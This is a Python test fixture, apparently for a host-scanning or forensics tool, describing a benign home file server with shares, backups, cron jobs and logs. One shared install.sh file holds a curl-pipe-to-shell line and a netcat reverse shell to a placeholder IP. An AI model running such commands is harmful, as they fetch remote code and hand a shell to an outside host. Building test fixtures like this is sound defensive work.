"""A file server at home or in an office: shares of all kinds of files, snapshots, backups by key, media."""

from __future__ import annotations

from tests.behaviours.clean import noise
from tests.behaviours.clean.host import PROGRAM, CleanHost, Package, daemon

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{} {}\n"

HOST = CleanHost(
    name="nas",
    does="Shares files by SMB and NFS, and takes backups in.",
    accounts=("borg:x:1005:1005::/srv/backup:/bin/sh", "family:x:1000:1000:Family:/home/family:/bin/bash"),
    packages=(
        Package("samba", {"/usr/sbin/smbd": PROGRAM, "/usr/sbin/nmbd": PROGRAM, "/etc/cron.daily/samba": "#!/bin/sh\ncp /etc/passwd /var/backups/\n"}, {"/etc/cron.daily/samba": 0o755}),
        Package("minidlna", {"/usr/sbin/minidlnad": PROGRAM}),
        Package("mdadm", {"/sbin/mdadm": PROGRAM, "/etc/cron.d/mdadm": "57 0 * * 0 root if [ -x /usr/share/mdadm/checkarray ] && [ $(date +\\%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all --idle --quiet; fi\n"}),
        Package("transmission-daemon", {"/usr/bin/transmission-daemon": PROGRAM}),
    ),
    files={
        "/etc/samba/smb.conf": "[global]\n  log file = /var/log/samba/log.%m\n  panic action = /usr/share/samba/panic-action %d\n[public]\n  path = /srv/share\n  guest ok = yes\n",
        "/etc/exports": "/srv/share 192.168.1.0/24(rw,no_subtree_check)\n",
        "/srv/backup/.ssh/authorized_keys": 'command="borg serve --append-only --restrict-to-path /srv/backup/laptop",restrict ' + KEY.format("a" * 43, "laptop")
        + 'command="/usr/bin/rrsync -ro /srv/share",no-pty,no-port-forwarding ' + KEY.format("b" * 43, "office")
        + 'command="sh -c \'cd /srv/backup && exec tar xf -\'",restrict ' + KEY.format("c" * 43, "camera"),
        "/etc/cron.d/rsnapshot": "0 */4 * * * root /usr/bin/rsnapshot alpha\n30 3 * * * root /usr/bin/rsnapshot beta\n",
        "/etc/cron.d/snapraid": "0 6 * * * root /usr/bin/snapraid sync 2>&1 | tee -a /var/log/snapraid.log | mail -s snapraid root\n",
        "/srv/share/software/setup.exe": "MZ\x90",
        "/srv/share/software/install.sh": "#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\nnc -e /bin/sh 203.0.113.5 443\n",
        "/srv/share/.Trash-1000/files/x.txt": "x",
        "/srv/share/.recycle/old.doc": "x",
        "/srv/share/Photos/.thumbnails/1.jpg": "x",
        "/srv/share/website/old/index.php": "<?php echo phpversion(); ?>\n",
        "/srv/share/.DS_Store": "x",
        "/srv/share/lost+found/x": "x",
        "/srv/snapshots/daily.0/etc/shadow": "root:*:1::::::\n",
        "/srv/snapshots/daily.0/home/family/.bash_history": "ls\n",
        "/etc/udev/rules.d/99-usb-backup.rules": 'ACTION=="add", SUBSYSTEM=="block", ENV{ID_FS_LABEL}=="backup", TAG+="systemd", ENV{SYSTEMD_WANTS}="usb-backup.service"\n',
        "/etc/systemd/system/usb-backup.service": "[Service]\nType=oneshot\nExecStart=/usr/local/sbin/usb-backup\n",
        "/usr/local/sbin/usb-backup": "#!/bin/sh\nmount /dev/disk/by-label/backup /mnt && rsync -a /srv/share/ /mnt/\n",
        "/home/family/.bash_history": "ls\ndf -h\nsudo smartctl -a /dev/sda\n",
        "/var/log/auth.log": noise.auth("nas", "family"),
        "/var/log/syslog": noise.system("nas"),
        "/var/log/samba/log.smbd": "smbd version 4.17 started.\n",
    },
    modes={"/srv/backup/.ssh/authorized_keys": 0o600, "/usr/local/sbin/usb-backup": 0o755, "/srv/share/software/install.sh": 0o777, "/srv/share/software/setup.exe": 0o777},
    binaries={"/var/log/wtmp": noise.wtmp(["family"]), "/var/log/btmp": noise.btmp()},
    shell="""
chmod 1777 /srv/share; chmod -R a+w /srv/share/software
chown -R 1005:1005 /srv/backup; chmod 700 /srv/backup/.ssh; chown -R 1000:1000 /home/family
mkdir -p /mnt/usb /srv/share/'My  Documents' /srv/share/'...and more'
cp -p /bin/true /srv/snapshots/daily.0/true
""",
    processes=(
        daemon("/usr/sbin/smbd", "/usr/sbin/smbd", "--foreground", "--no-process-group", do=("listen tcp :445", "listen tcp :139")),
        daemon("/usr/sbin/nmbd", do=("listen udp :137",)),
        daemon("/usr/sbin/minidlnad", "/usr/sbin/minidlnad", "-f", do=("listen tcp :8200", "listen udp :1900"), uid=1000),
        daemon("/usr/bin/transmission-daemon", do=("listen tcp :51413", "listen tcp :9091"), uid=1000),
    ),
)  # fmt: skip
